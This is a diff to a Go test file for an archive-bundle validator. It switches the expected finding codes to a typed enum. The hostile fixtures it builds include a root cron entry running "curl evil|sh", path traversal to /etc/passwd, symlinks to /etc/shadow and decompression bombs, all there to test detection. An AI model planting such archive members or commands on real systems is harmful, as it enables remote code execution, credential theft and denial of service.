@@ -21,6 +21,7 @@ import (
 	"github.com/klauspost/compress/zstd"
 
 	"github.com/refdoctor/refdoctor/bundle"
+	"github.com/refdoctor/refdoctor/finding"
 )
 
 var update = flag.Bool("update", false, "rewrite the generated fixtures under testdata/")
@@ -137,7 +138,7 @@ func zstdBomb(t testing.TB, name string, mib int) []byte {
 type hostileFixture struct {
 	file     string
 	build    func(t testing.TB) []byte
-	want     []string
+	want     []finding.Code
 	complete bool
 	// commit: small enough to live in the repository.
 	commit bool
@@ -150,71 +151,71 @@ func hostileFixtures() []hostileFixture {
 		}
 	}
 	return []hostileFixture{
-		{file: "absolute-path.tgz", want: []string{"UnsafePath"}, complete: true, commit: true,
+		{file: "absolute-path.tgz", want: []finding.Code{finding.UnsafePath}, complete: true, commit: true,
 			build: withExtra(rawEntry{name: "/etc/cron.d/refdoctor", data: []byte("* * * * * root sh -c 'curl evil|sh'\n")})},
-		{file: "dotdot.tgz", want: []string{"UnsafePath", "UnsafePath"}, complete: true, commit: true,
+		{file: "dotdot.tgz", want: []finding.Code{finding.UnsafePath, finding.UnsafePath}, complete: true, commit: true,
 			build: withExtra(rawEntry{name: "../../etc/passwd", data: []byte("root::0:0::/:/bin/sh\n")},
 				rawEntry{name: "blobs/sha256/../../../evil", data: []byte("x")})},
-		{file: "symlink.tgz", want: []string{"LinkMember"}, complete: true, commit: true,
+		{file: "symlink.tgz", want: []finding.Code{finding.LinkMember}, complete: true, commit: true,
 			build: withExtra(rawEntry{name: "blobs/sha256/evil", typ: tar.TypeSymlink, linkname: "/etc/passwd"})},
-		{file: "hardlink.tgz", want: []string{"LinkMember"}, complete: true, commit: true,
+		{file: "hardlink.tgz", want: []finding.Code{finding.LinkMember}, complete: true, commit: true,
 			build: withExtra(rawEntry{name: "evil", typ: tar.TypeLink, linkname: "/etc/shadow"})},
-		{file: "chardev.tgz", want: []string{"DeviceMember"}, complete: true, commit: true,
+		{file: "chardev.tgz", want: []finding.Code{finding.DeviceMember}, complete: true, commit: true,
 			build: withExtra(rawEntry{name: "dev/null", typ: tar.TypeChar})},
-		{file: "fifo.tgz", want: []string{"DeviceMember"}, complete: true, commit: true,
+		{file: "fifo.tgz", want: []finding.Code{finding.DeviceMember}, complete: true, commit: true,
 			build: withExtra(rawEntry{name: "pipe", typ: tar.TypeFifo})},
-		{file: "duplicate.tgz", want: []string{"DuplicateMember"}, complete: true, commit: true,
+		{file: "duplicate.tgz", want: []finding.Code{finding.DuplicateMember}, complete: true, commit: true,
 			build: func(t testing.TB) []byte {
 				f := newFixture(t)
 				return withExtra(rawEntry{name: bundle.IndexPath, data: f.files[bundle.IndexPath]})(t)
 			}},
-		{file: "larger-than-listed.tgz", want: []string{"SizeMismatch"}, complete: true, commit: true,
+		{file: "larger-than-listed.tgz", want: []finding.Code{finding.SizeMismatch}, complete: true, commit: true,
 			build: func(t testing.TB) []byte {
 				f := newFixture(t)
 				p := f.firstLayer()
 				f.files[p] = append(f.files[p], make([]byte, 50000)...)
 				return rawTarGz(t, goodEntries(t, f))
 			}},
-		{file: "bomb.tgz", want: []string{"DecompressionBomb"}, commit: true,
+		{file: "bomb.tgz", want: []finding.Code{finding.DecompressionBomb}, commit: true,
 			build: func(t testing.TB) []byte {
 				f := newFixture(t)
 				prefix := rawTar(t, []rawEntry{{name: bundle.ManifestPath, data: f.manifestYAML(t)}})
 				prefix = prefix[:len(prefix)-1024] // drop the end-of-archive blocks
 				return gzipBomb(t, prefix, "blobs/sha256/"+strings.Repeat("0", 64), 100)
 			}},
-		{file: "truncated.tgz", want: []string{"TruncatedArchive"}, commit: true,
+		{file: "truncated.tgz", want: []finding.Code{finding.TruncatedArchive}, commit: true,
 			build: func(t testing.TB) []byte {
 				data := newFixture(t).write(t)
 				return data[:len(data)*6/10]
 			}},
-		{file: "invalid-yaml.tgz", want: []string{"MalformedManifest"}, complete: true, commit: true,
+		{file: "invalid-yaml.tgz", want: []finding.Code{finding.MalformedManifest}, complete: true, commit: true,
 			build: func(t testing.TB) []byte {
 				entries := goodEntries(t, newFixture(t))
 				entries[0].data = []byte("schemaVersion: 1\nkind: [MirrorBundle\n")
 				return rawTarGz(t, entries)
 			}},
-		{file: "unknown-field.tgz", want: []string{"MalformedManifest"}, complete: true, commit: true,
+		{file: "unknown-field.tgz", want: []finding.Code{finding.MalformedManifest}, complete: true, commit: true,
 			build: func(t testing.TB) []byte {
 				entries := goodEntries(t, newFixture(t))
 				entries[0].data = append([]byte("signedBy: mallory\n"), entries[0].data...)
 				return rawTarGz(t, entries)
 			}},
-		{file: "corrupt-checksum.tgz", want: []string{"CorruptArchive"}, commit: true,
+		{file: "corrupt-checksum.tgz", want: []finding.Code{finding.CorruptArchive}, commit: true,
 			build: func(t testing.TB) []byte {
 				data := newFixture(t).write(t)
 				data[len(data)-8] ^= 0xff // the gzip CRC32
 				return data
 			}},
-		{file: "trailing-garbage.tgz", want: []string{"TrailingData"}, complete: true, commit: true,
+		{file: "trailing-garbage.tgz", want: []finding.Code{finding.TrailingData}, complete: true, commit: true,
 			build: func(t testing.TB) []byte {
 				return append(newFixture(t).write(t), []byte("GARBAGE AFTER THE GZIP STREAM")...)
 			}},
-		{file: "data-after-end.tgz", want: []string{"TrailingData"}, complete: true, commit: true,
+		{file: "data-after-end.tgz", want: []finding.Code{finding.TrailingData}, complete: true, commit: true,
 			build: func(t testing.TB) []byte {
 				plain := rawTar(t, goodEntries(t, newFixture(t)))
 				return gz(t, append(plain, []byte("hidden payload after the end-of-archive marker")...))
 			}},
-		{file: "oversized-referrer.tgz", want: []string{"MemberTooLarge", "SizeMismatch"}, complete: true, commit: true,
+		{file: "oversized-referrer.tgz", want: []finding.Code{finding.MemberTooLarge, finding.SizeMismatch}, complete: true, commit: true,
 			build: func(t testing.TB) []byte {
 				f := newFixture(t)
 				p := f.referrers[0].path
@@ -344,7 +345,7 @@ func TestOversizedManifest(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got := codes(rep); !slices.Equal(got, []string{"MemberTooLarge"}) || rep.Errors[0].Path != bundle.ManifestPath || rep.Complete {
+	if got := codes(rep); !slices.Equal(got, []finding.Code{finding.MemberTooLarge}) || rep.Errors[0].Path != bundle.ManifestPath || rep.Complete {
 		t.Fatalf("report %s", dump(rep))
 	}
 	if n := src.n.Load(); n > 1<<20 {
@@ -402,7 +403,7 @@ func TestBombs(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if got := codes(rep); !slices.Equal(got, []string{"DecompressionBomb"}) || rep.Complete {
+			if got := codes(rep); !slices.Equal(got, []finding.Code{finding.DecompressionBomb}) || rep.Complete {
 				t.Fatalf("%d-byte bomb: report %s", len(c.data), dump(rep))
 			}
 			if rep.BytesChecked > 64<<20 {
@@ -413,7 +414,7 @@ func TestBombs(t *testing.T) {
 	t.Run("member over the bound", func(t *testing.T) {
 		t.Parallel()
 		rep, err := validate(t, gzipBomb(t, nil, "blobs/sha256/"+strings.Repeat("4", 64), 16), bundle.WithMaxMemberSize(1<<20))
-		if err != nil || !slices.Equal(codes(rep), []string{"MemberTooLarge"}) || rep.BytesChecked != 0 {
+		if err != nil || !slices.Equal(codes(rep), []finding.Code{finding.MemberTooLarge}) || rep.BytesChecked != 0 {
 			t.Fatalf("err %v, report %s", err, dump(rep))
 		}
 	})
@@ -497,12 +498,12 @@ func TestZstdDamage(t *testing.T) {
 	flipped[len(flipped)-2] ^= 0xff // inside the frame checksum
 	tcs := map[string]struct {
 		data     []byte
-		want     string
+		want     finding.Code
 		complete bool
 	}{
-		"truncated":        {good[:len(good)*6/10], "TruncatedArchive", false},
-		"trailing garbage": {append(slices.Clone(good), "GARBAGE AFTER THE FRAME"...), "TrailingData", true},
-		"checksum":         {flipped, "CorruptArchive", false},
+		"truncated":        {good[:len(good)*6/10], finding.TruncatedArchive, false},
+		"trailing garbage": {append(slices.Clone(good), "GARBAGE AFTER THE FRAME"...), finding.TrailingData, true},
+		"checksum":         {flipped, finding.CorruptArchive, false},
 	}
 	for name, c := range tcs {
 		t.Run(name, func(t *testing.T) {
@@ -511,7 +512,7 @@ func TestZstdDamage(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if got := codes(rep); !slices.Equal(got, []string{c.want}) || rep.Complete != c.complete {
+			if got := codes(rep); !slices.Equal(got, []finding.Code{c.want}) || rep.Complete != c.complete {
 				t.Fatalf("codes %v complete %v, want %s %v\n%s", got, rep.Complete, c.want, c.complete, dump(rep))
 			}
 		})
